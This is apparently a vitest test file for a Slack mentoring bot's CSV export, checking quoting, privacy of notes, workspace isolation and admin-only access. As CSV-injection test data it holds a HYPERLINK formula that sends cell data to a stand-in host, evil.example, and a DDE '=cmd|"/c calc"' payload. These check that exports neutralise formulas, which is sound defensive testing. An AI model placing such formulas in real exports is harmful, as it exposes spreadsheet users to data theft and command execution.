import { beforeAll, describe, expect, it } from 'vitest';
import { ADMINS_ONLY } from '../../src/services/access.ts';
import type { RecordedCall } from '../helpers/fake-slack.ts';
import { answered, everythingSent, logValues, pairUp, SECRETS, submitGoal, submitLog, submitLoop } from '../helpers/flows.ts';
import { at, PEOPLE, T2, T2_ADMIN, T2_MENTEE, T2_MENTOR, TEAM, useTestBot } from '../helpers/test-bot.ts';

const TODAY = '2026-11-18T14:00:00Z';
// Titles a spreadsheet would mangle or run; all with consent, so they are exported (made safe).
const TRICKY = 'Ship v2, then "celebrate"\nwith the team';
const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';
const FORMULAS = [HYPERLINK, '+1 more demo', '-1 open bugs', '@SUM(A1:A10)'];
// A Slack profile name is someone else's text too.
const EVIL = { id: 'UEVIL0001', real_name: '=cmd|"/c calc"!A0', tz: 'UTC' };

// One program, built once; the tests only read it.
const t = useTestBot({ now: TODAY, resetTables: false });
let p1: number;
let p2: number;

const ok = (res: Promise<{ status: number; json: any }>) => answered(t, res);

beforeAll(async () => {
  t.fake.addUser({ team_id: TEAM, ...EVIL });
  for (const u of [T2_ADMIN, T2_MENTOR, T2_MENTEE]) t.fake.addUser(u);
  const db = t.bot.database.db;
  t.clock.set('2026-09-01T10:00:00Z');
  p1 = await pairUp(t, PEOPLE.mentor, PEOPLE.mentee, 'every 3w');
  p2 = await pairUp(t, EVIL, PEOPLE.mentee2);
  t.clock.set(TODAY);
  await ok(submitLog(t, PEOPLE.mentee, p1, { heldOn: '2026-11-10', minutes: '45', usefulness: '4', notes: 'SECRET-NOTE one', topics: 'SECRET-TOPIC', advice: 'SECRET-ADVICE-1\nSECRET-ADVICE-2', commitments: 'SECRET-COMMIT' }));
  await ok(submitLog(t, PEOPLE.mentor, p1, { heldOn: '2026-11-17', minutes: '60', notes: 'SECRET-NOTE two' }));
  await ok(submitLog(t, PEOPLE.mentee2, p2, { heldOn: '2026-11-12', minutes: '30', usefulness: '2', advice: '=SECRET-ADVICE-3' }));
  const advice = await db.selectFrom('advice_items').select(['id', 'text']).orderBy('id').execute();
  await ok(submitLoop(t, PEOPLE.mentee, advice[0]!.id, 'tried_worked', 'SECRET-OUTCOME it worked', '5'));
  await ok(submitLoop(t, PEOPLE.mentee2, advice[2]!.id, 'tried_didnt', 'SECRET-OUTCOME no luck'));
  for (const title of [TRICKY, ...FORMULAS]) {
    await ok(submitGoal(t, PEOPLE.mentee, JSON.stringify({ pairId: p1 }), { title, celebrate: true, outcome: 'SECRET-GOAL outcome', successMeasure: 'SECRET-GOAL measure', milestones: 'SECRET-GOAL step' }));
  }
  await ok(submitGoal(t, PEOPLE.mentee2, JSON.stringify({ pairId: p2 }), { title: 'SECRET-GOAL private plan', celebrate: false }));
  // Another workspace's program: never in this workspace's export.
  await ok(t.slack.command({ team_id: T2, text: `pair ${at(T2_MENTOR)} ${at(T2_MENTEE)}`, user_id: T2_ADMIN.id, response_url: t.fake.responseUrl() }));
  const t2Pair = (await db.selectFrom('pairs').select('id').where('team_id', '=', T2).executeTakeFirstOrThrow()).id;
  await ok(t.slack.viewSubmission({ team_id: T2, user_id: T2_MENTEE.id, callback_id: 'log_modal', private_metadata: JSON.stringify({ pairId: t2Pair }), values: logValues({ heldOn: '2026-11-17' }) }));
});

/** RFC 4180, independently of the bot's writer: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const s = text.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && s[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  expect(field, 'the file ends with CRLF').toBe('');
  expect(row).toEqual([]);
  return rows;
}

/** The CSV files as records keyed by header, by file name prefix (pairs, sessions, goals, advice-loops). */
function tables(uploads: RecordedCall[]): Record<string, Array<Record<string, string>>> {
  const out: Record<string, Array<Record<string, string>>> = {};
  for (const u of uploads) {
    const [header, ...rows] = parseCsv(String(u.args.body));
    for (const row of rows) expect(row).toHaveLength(header!.length);
    const name = String(u.args.filename).replace(/^mentoring-/, '').replace(/-2026-11-18\.csv$/, '');
    out[name] = rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
  }
  return out;
}

async function runExport(user: { id: string } = PEOPLE.admin, team = TEAM) {
  const responseUrl = t.fake.responseUrl();
  const ack = await ok(t.slack.command({ team_id: team, text: 'export', user_id: user.id, response_url: responseUrl }));
  const followUps = t.fake.callsTo('response_url').filter((c) => c.args._url === responseUrl);
  return { ack, followUps, uploads: t.fake.callsTo('file_upload') };
}

describe('/mentor export', () => {
  it('acks at once, then uploads one CSV per table to the admin’s DM with the external upload flow and says so', async () => {
    const { ack, followUps, uploads } = await runExport();
    expect(ack).toMatchObject({ response_type: 'ephemeral', text: expect.stringContaining('Preparing your export…') });
    expect(t.fake.callsTo('conversations.open').map((c) => c.args.users)).toEqual([PEOPLE.admin.id]);
    const names = ['pairs', 'sessions', 'goals', 'advice-loops', 'outcomes'].map((n) => `mentoring-${n}-2026-11-18.csv`);
    expect(t.fake.callsTo('files.getUploadURLExternal').map((c) => c.args.filename).sort()).toEqual([...names].sort());
    expect(uploads.map((u) => u.args.filename).sort()).toEqual([...names].sort());
    const complete = t.fake.callsTo('files.completeUploadExternal');
    expect(complete).toHaveLength(1);
    expect(complete[0]!.args.channel_id).toBe(`D${PEOPLE.admin.id}`); // a DM id, as completeUploadExternal requires
    expect(complete[0]!.args.files.map((f: any) => f.id).sort()).toEqual(uploads.map((u) => u.args.file_id).sort());
    expect(complete[0]!.args.initial_comment).toContain('5 CSV files');
    expect(followUps).toHaveLength(1);
    expect(followUps[0]!.args.text).toContain('Your export is in our DM');
    expect(followUps[0]!.args.text).toContain('`mentoring-goals-2026-11-18.csv` (6 rows)');
    // UTF-8 with a byte order mark, so Excel reads names such as Zoë correctly (the fake's decoded body drops it).
    for (const u of uploads) expect(String(u.args.raw)).toContain('\r\n\r\n\uFEFF"');
  });

  it('exports pairings, sessions without notes, and advice loops without text', async () => {
    const csv = tables((await runExport()).uploads);
    expect(csv.pairs).toEqual([
      {
        pair_id: String(p1), mentor_id: PEOPLE.mentor.id, mentor_name: 'Maya Mentor', mentee_id: PEOPLE.mentee.id, mentee_name: 'Theo Mentee', kind: 'standard', status: 'active',
        cadence_days: '21', started_on: '2026-09-01', last_session_on: '2026-11-17', sessions: '2', review_on: '2027-03-01', paused_until: '', ended_on: '',
      },
      {
        pair_id: String(p2), mentor_id: EVIL.id, mentor_name: `'${EVIL.real_name}`, mentee_id: PEOPLE.mentee2.id, mentee_name: 'Sam Second', kind: 'standard', status: 'active',
        cadence_days: '14', started_on: '2026-09-01', last_session_on: '2026-11-12', sessions: '1', review_on: '2027-03-01', paused_until: '', ended_on: '',
      },
    ]);
    expect(csv.sessions!.map((s) => [s.pair_id, s.held_on, s.minutes, s.usefulness, s.logged_by, s.advice_items, s.commitments])).toEqual([
      [String(p1), '2026-11-10', '45', '4', PEOPLE.mentee.id, '2', '1'],
      [String(p2), '2026-11-12', '30', '2', PEOPLE.mentee2.id, '1', '0'],
      [String(p1), '2026-11-17', '60', '', PEOPLE.mentor.id, '0', '0'],
    ]);
    expect(Object.keys(csv.sessions![0]!)).not.toContain('notes');
    expect(csv['advice-loops']!.map((l) => [l.pair_id, l.given_on, l.follow_up_on, l.outcome, l.closed_on, l.days_to_close, l.usefulness])).toEqual([
      [String(p1), '2026-11-10', '2026-11-19', 'tried_worked', '2026-11-18', '8', '5'],
      [String(p1), '2026-11-10', '2026-11-19', 'open', '', '', ''],
      [String(p2), '2026-11-12', '2026-11-19', 'tried_didnt', '2026-11-18', '6', ''],
    ]);
  });

  it('exports a goal title only with the pair’s consent, quoted so commas, quotes and line breaks survive, and never as a formula', async () => {
    const { uploads } = await runExport();
    const goals = tables(uploads).goals!;
    expect(goals.map((g) => [g.title, g.celebrate_publicly, g.status, g.target_date, g.milestones])).toEqual([
      [TRICKY, 'true', 'open', '2027-01-31', '1'],
      ...FORMULAS.map((f) => [`'${f}`, 'true', 'open', '2027-01-31', '1']),
      ['', 'false', 'open', '2027-01-31', '2'],
    ]);
    const raw = String(uploads.find((u) => String(u.args.filename).includes('goals'))!.args.body);
    expect(raw).toContain('"Ship v2, then ""celebrate""\nwith the team"');
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")"`);
    // No cell of any file starts with a formula character.
    for (const table of Object.values(tables(uploads))) {
      for (const row of table) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
    }
  });

  it('carries no note, topic, advice, outcome, commitment or private goal text anywhere', async () => {
    const { uploads } = await runExport();
    const sent = everythingSent(t) + uploads.map((u) => String(u.args.body)).join('\n');
    expect(uploads).toHaveLength(5);
    for (const secret of SECRETS) expect(sent).not.toContain(secret);
  });

  it('exports only the workspace’s own program', async () => {
    const mine = await runExport();
    expect(mine.uploads.map((u) => String(u.args.body)).join('\n')).not.toMatch(/UT2/);
    t.fake.reset();
    const theirs = await runExport(T2_ADMIN, T2);
    const csv = tables(theirs.uploads);
    expect(csv.pairs!.map((p) => [p.mentor_id, p.mentee_id])).toEqual([[T2_MENTOR.id, T2_MENTEE.id]]);
    expect(csv.sessions).toHaveLength(1);
    expect(csv.goals).toEqual([]);
    expect(t.fake.callsTo('files.completeUploadExternal')[0]!.args.channel_id).toBe(`D${T2_ADMIN.id}`);
  });

  it.each([
    ['a mentor', PEOPLE.mentor],
    ['an outsider', PEOPLE.outsider],
  ])('refuses %s in the ack and uploads nothing', async (_who, person) => {
    const { ack, followUps } = await runExport(person);
    expect(ack.text).toContain(ADMINS_ONLY);
    expect(ack.text).not.toContain('Preparing');
    expect(followUps).toEqual([]);
    expect(t.fake.calls.filter((c) => c.method !== 'users.info')).toEqual([]);
  });

  it.each([
    ['files.completeUploadExternal', 'channel_not_found', 'Slack answered `channel_not_found`'],
    ['files.getUploadURLExternal', 'missing_scope', 'needs the `files:write` permission'],
  ])('a Slack error from %s (%s) gets a clear message and shares nothing', async (method, error, message) => {
    t.fake.failNext(method, { error });
    const { followUps } = await runExport();
    expect(followUps).toHaveLength(1);
    expect(followUps[0]!.args.text).toContain("I couldn't upload your export");
    expect(followUps[0]!.args.text).toContain(message);
    expect(followUps[0]!.args.text).toContain('Nothing was shared');
    expect(t.fake.callsTo('files.completeUploadExternal').filter((c) => !c.failed)).toEqual([]);
  });
});
